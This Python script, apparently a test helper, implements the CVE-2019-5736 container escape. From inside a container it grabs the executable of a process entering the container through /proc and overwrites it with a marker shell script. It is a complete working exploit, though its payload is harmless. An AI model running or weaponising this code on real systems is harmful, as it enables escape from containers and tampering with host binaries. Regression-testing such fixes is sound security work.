#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
# As root of a container: overwrite the binary of whoever enters (CVE-2019-5736).
# Usage: overwrite-exe.py NAME. Prints "up", then "seen PATH" for each binary got
# hold of and "overwritten PATH" when it could be written to. NAME is the
# beginning of the file name to go for.
import os, sys

name = sys.argv[1]
held = {}

def look():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            path = os.readlink(f"/proc/{pid}/exe")
            base = path.split("/")[-1]
            if not base.startswith(name) and not base.startswith(f"memfd:{name}"):
                continue
            if path in held:
                continue
            held[path] = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
            print("seen", path, flush=True)
        except OSError:
            pass

def strike():
    for path, fd in list(held.items()):
        try:
            out = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
            try:
                os.write(out, b"#!/bin/sh\necho owned\n")
                os.ftruncate(out, 21)
            finally:
                os.close(out)
            print("overwritten", path, flush=True)
            del held[path]
        except OSError:
            pass

print("up", flush=True)
while True:
    look()
    strike()
